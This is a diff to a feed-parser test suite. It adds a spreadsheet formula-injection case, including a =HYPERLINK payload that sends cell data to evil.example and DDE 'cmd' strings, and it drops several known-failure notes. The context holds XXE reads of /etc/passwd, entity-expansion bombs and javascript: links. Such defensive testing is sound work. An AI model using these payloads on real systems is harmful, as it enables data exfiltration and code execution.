@@ -158,6 +158,10 @@ case("esc_lone_esc", "escape", "a lone ESC at the end of every field",
      rss([item(title=LONE, desc=LONE, guid="lone" + ESC, extra="<dc:creator>" + LONE + "</dc:creator>")]), stored_min=1)
 case("esc_bel_bs_cr", "escape", "BEL, backspaces and CR overwrite tricks in title, text and author",
      rss([item(title=BEL + " " + BS, desc=CR + " " + BS, extra="<dc:creator>" + CR + "</dc:creator>")]), stored_min=1)
+case("esc_csv_formula", "escape", "spreadsheet formulas in title, text and author (=HYPERLINK, +cmd, @SUM, -2+3)",
+     rss([item(title='=HYPERLINK("http://evil.example/?"&amp;A1,"click")', desc="+cmd|' /C calc'!A0",
+               extra="<dc:creator>@SUM(1+1)*cmd|' /C calc'!A0</dc:creator>"),
+          item(guid="g2", title="-2+3", desc="\t=1+1")]), stored_min=2)
 case("esc_bidi", "escape", "bidi overrides and isolates U+202A-E, U+2066-9 in title, author and link",
      rss([item(title=BIDI, desc=BIDI, link="https://example.com/" + BIDI, extra="<dc:creator>" + BIDI + "</dc:creator>")]), stored_min=1)
 case("esc_zero_width", "escape", "zero-width characters and BOMs in title, author and id",
@@ -270,8 +274,7 @@ case("ent_billion_laughs_attribute", "entities", "billion laughs expanded inside
      LAUGHS + rss([item(extra='<enclosure url="&lol9;" type="audio/mpeg" length="1"/>')], decl=""), outcome="any")
 case("ent_quadratic_blowup", "entities", "quadratic blowup: one 50 kB entity referenced 5000 times",
      '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + "A" * 50000 + '">]>'
-     + rss([item(title="{{REPEAT:5000:&a;}}")], decl=""), outcome="any",
-     known_failure="expanded in full: 250 MB of text, about 800 MB of memory and a minute of parsing (2000 references: 320 MB, 18 s in a debug build)")
+     + rss([item(title="{{REPEAT:5000:&a;}}")], decl=""), outcome="any")
 case("ent_external_file", "entities", "an external entity to file:///etc/passwd used in the title",
      '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + rss([item(title="leak &xxe; end", desc="&xxe;")], decl=""),
      outcome="any", forbid_stored=["root:"])
@@ -317,8 +320,7 @@ case("res_title_1mb", "resources", "a 1 MB title and a 1 MB description (generat
 case("res_title_1mb_one_word_with_escapes", "resources", "a 1 MB title that is one word sprinkled with CSI",
      rss([item(guid="bigesc", title="{{REPEAT:100000:AB\x1b[2JCD}}")]), stored_min=1)
 case("res_100k_items", "resources", "100,000 items in one page (generated, about 6 MB)",
-     rss(["{{REPEAT:100000:<item><guid>i{i}</guid><title>t{i}</title></item>}}"]), stored_min=1,
-     known_failure="quadratic in the number of items: 5,000 items 7 s, 10,000 26 s, 20,000 120 s (feed test, debug build); 100,000 never finish")
+     rss(["{{REPEAT:100000:<item><guid>i{i}</guid><title>t{i}</title></item>}}"]), stored_min=1)
 case("res_nul_bytes", "resources", "NUL bytes in the title, the text, the author and the id",
      rss([item(guid="nul\x00id", title="nul\x00title", desc="a\x00b\x00c", extra="<dc:creator>n\x00ul</dc:creator>")]).encode(),
      outcome="any")
@@ -337,8 +339,7 @@ case("res_utf16_lie", "resources", "a body that declares UTF-16 and is ASCII",
      rss([item()], decl='<?xml version="1.0" encoding="UTF-16"?>'), headers={"content-type": "application/rss+xml; charset=utf-16"},
      outcome="any")
 case("res_many_attributes", "resources", "an item with 100,000 attributes",
-     rss(['<item {{REPEAT:100000:a{i}="1" }}><guid>attrs</guid><title>t</title></item>']), outcome="any",
-     known_failure="quadratic in the number of attributes: 10,000 take 2.8 s, 20,000 8.8 s (debug build); 100,000 do not finish in a minute")
+     rss(['<item {{REPEAT:100000:a{i}="1" }}><guid>attrs</guid><title>t</title></item>']), outcome="any")
 
 # --- slow and reset -------------------------------------------------------------------------------
 
@@ -445,18 +446,14 @@ case("link_relative_dotdot", "links", "relative links climbing out with .. and e
 case("link_credentials", "links", "links with user:password@ and a lookalike host before the @",
      rss([item(guid="c1", link="http://user:hunter2secret@example.com/post"),
           item(guid="c2", link="https://paypal.com:login@evil.example/")]),
-     stored_min=2, forbid_stored=["hunter2secret"],
-     known_failure="a link's user:password@ is stored and exported as it came (and a lookalike host before @ kept)")
+     stored_min=2, forbid_stored=["hunter2secret"])
 case("link_stackexchange_javascript", "links", "Stack Exchange: a javascript: link",
-     se([question(qid=201, link="javascript:alert(1)")]), kind="stackexchange", stored_min=1, forbid_stored=["javascript:"],
-     known_failure="the stackexchange kind stores any scheme as the link (the rss kind keeps http and https only)")
+     se([question(qid=201, link="javascript:alert(1)")]), kind="stackexchange", stored_min=1, forbid_stored=["javascript:"])
 case("link_mastodon_javascript", "links", "Mastodon: javascript: url and data: uri",
      json.dumps([status(sid="l1", url="javascript:alert(1)"), status(sid="l2", url=None) | {"uri": "data:text/html,x"}]),
-     kind="mastodon", stored_min=2, forbid_stored=["javascript:", "data:text"],
-     known_failure="the mastodon kind stores any scheme as the link (the rss kind keeps http and https only)")
+     kind="mastodon", stored_min=2, forbid_stored=["javascript:", "data:text"])
 case("link_json_kind_file", "links", "the json kind: a file: url",
-     jsonkind([{"id": "f", "url": "file:///etc/passwd", "text": "t"}]), kind="json", stored_min=1, forbid_stored=["file:"],
-     known_failure="the json kind stores any scheme as the link (the rss kind keeps http and https only)")
+     jsonkind([{"id": "f", "url": "file:///etc/passwd", "text": "t"}]), kind="json", stored_min=1, forbid_stored=["file:"])
 case("link_jsonfeed_javascript", "links", "JSON Feed: javascript: url and external_url",
      json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [
          {"id": "1", "url": "javascript:alert(1)", "content_text": "x"},
